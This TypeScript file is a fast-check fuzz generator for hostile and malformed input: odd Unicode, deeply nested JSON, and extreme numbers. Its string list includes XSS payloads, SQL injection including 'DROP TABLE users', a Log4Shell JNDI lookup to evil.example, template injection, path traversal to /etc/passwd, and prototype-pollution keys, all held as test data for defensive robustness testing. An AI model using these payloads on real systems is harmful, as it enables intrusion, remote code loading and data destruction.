/**
 * Values that have broken parsers, databases and renderers: text with every kind of character,
 * odd JSON, any value at all. The fuzz (../fuzz.ts) puts them in every field.
 */
import fc from "fast-check";

/** Characters that have broken parsers, databases and renderers. */
export const NASTY = [
  "\u0000",
  "\uD800",
  "\uDBFF",
  "\uDC00",
  "\uDFFF",
  "\u202E",
  "\u200F",
  "\u202B",
  "\u2066",
  "\uFEFF",
  "\u200B",
  "\u0301",
  "\uFFFD",
  "\uFFFF",
  "\u0085",
  "\u2028",
  "\r\n",
  "\t",
  "\u001B",
  "\u007F",
  "👩‍👩‍👧‍👦",
  "𝕏",
  "ﷺ",
  "ا",
  "漢",
  "%",
  "%00",
  "\\",
  '"',
  "'",
  "<",
  ">",
  "&",
  "{",
  "[",
  "$",
  "_",
];

export const NASTY_TEXT = [
  "<script>alert(1)</script>",
  '<img src=x onerror="alert(1)">',
  '<a href="javascript:alert(1)">link</a>',
  "<iframe src=//evil.example></iframe>",
  "<style>*{display:none}</style>",
  "' OR 1=1 --",
  "'; DROP TABLE users; --",
  "%' OR '1'='1",
  "\\x00",
  "${jndi:ldap://evil.example/a}",
  "{{7*7}}",
  "../../../../etc/passwd",
  "__proto__",
  "constructor",
  "NaN",
  "Infinity",
  "-0",
  "1e309",
  "0x10",
  "١٢٣",
  "  ",
  "",
  "null",
  "true",
  "[]",
  "{}",
  "مرحبا بالعالم",
  "שלום \u202Eעולם",
  "a\u0000b",
  "\uD83D",
  "x\uDE00y",
];

export const nastyUnit = fc.oneof(
  { weight: 6, arbitrary: fc.constantFrom(...NASTY) },
  { weight: 2, arbitrary: fc.integer({ min: 0xd800, max: 0xdfff }).map(String.fromCharCode) },
  { weight: 2, arbitrary: fc.string({ unit: "binary", minLength: 1, maxLength: 1 }) },
  { weight: 2, arbitrary: fc.string({ unit: "grapheme", minLength: 1, maxLength: 1 }) },
  { weight: 4, arbitrary: fc.string({ unit: "grapheme-ascii", minLength: 1, maxLength: 1 }) },
);

/** Text of up to ~100 kB, mostly short, with every kind of character. */
export const anyText = fc.oneof(
  { weight: 5, arbitrary: fc.string({ unit: nastyUnit, maxLength: 40 }) },
  { weight: 3, arbitrary: fc.constantFrom(...NASTY_TEXT) },
  { weight: 2, arbitrary: fc.string({ maxLength: 300 }) },
  {
    weight: 1,
    arbitrary: fc
      .tuple(fc.string({ unit: nastyUnit, minLength: 1, maxLength: 4 }), fc.nat({ max: 25_000 }))
      .map(([piece, times]) => piece.repeat(times + 250)),
  },
);

/** JSON text put into a body as is: deeply nested or otherwise odd values. */
class RawJson {
  constructor(readonly text: string) {}
}

export const deepJson = fc
  .tuple(fc.constantFrom("array", "object", "mixed"), fc.integer({ min: 50, max: 20_000 }))
  .map(([kind, depth]) => {
    if (kind === "array") return new RawJson(`${"[".repeat(depth)}${"]".repeat(depth)}`);
    if (kind === "object") return new RawJson(`${'{"a":'.repeat(depth)}1${"}".repeat(depth)}`);
    return new RawJson(`${'[{"a":'.repeat(depth)}null${"}]".repeat(depth)}`);
  });

export const anyValue: fc.Arbitrary<unknown> = fc.letrec<{ value: unknown }>((tie) => ({
  value: fc.oneof(
    { depthSize: "small", withCrossShrink: true },
    { weight: 5, arbitrary: anyText },
    { weight: 2, arbitrary: fc.integer() },
    {
      weight: 2,
      arbitrary: fc.constantFrom(
        0,
        -1,
        1.5,
        -0,
        2_147_483_647,
        2_147_483_648,
        Number.MAX_SAFE_INTEGER,
        1e308,
        1e-308,
      ),
    },
    { weight: 1, arbitrary: fc.double() },
    { weight: 2, arbitrary: fc.boolean() },
    { weight: 2, arbitrary: fc.constant(null) },
    { weight: 1, arbitrary: fc.array(tie("value"), { maxLength: 4 }) },
    { weight: 1, arbitrary: fc.dictionary(fc.string({ maxLength: 8 }), tie("value")) },
    { weight: 1, arbitrary: deepJson },
    // A number too big for a double, written as JSON allows it.
    { weight: 1, arbitrary: fc.bigInt().map((n) => new RawJson(`${n.toString()}0000000000`)) },
  ),
})).value;

/** JSON text of a value, with RawJson pieces as they are. */
export function toJson(value: unknown): string {
  if (value instanceof RawJson) return value.text;
  if (Array.isArray(value)) return `[${value.map(toJson).join(",")}]`;
  if (value && typeof value === "object") {
    return `{${Object.entries(value)
      .map(([key, item]) => `${JSON.stringify(key)}:${toJson(item)}`)
      .join(",")}}`;
  }
  return JSON.stringify(value);
}
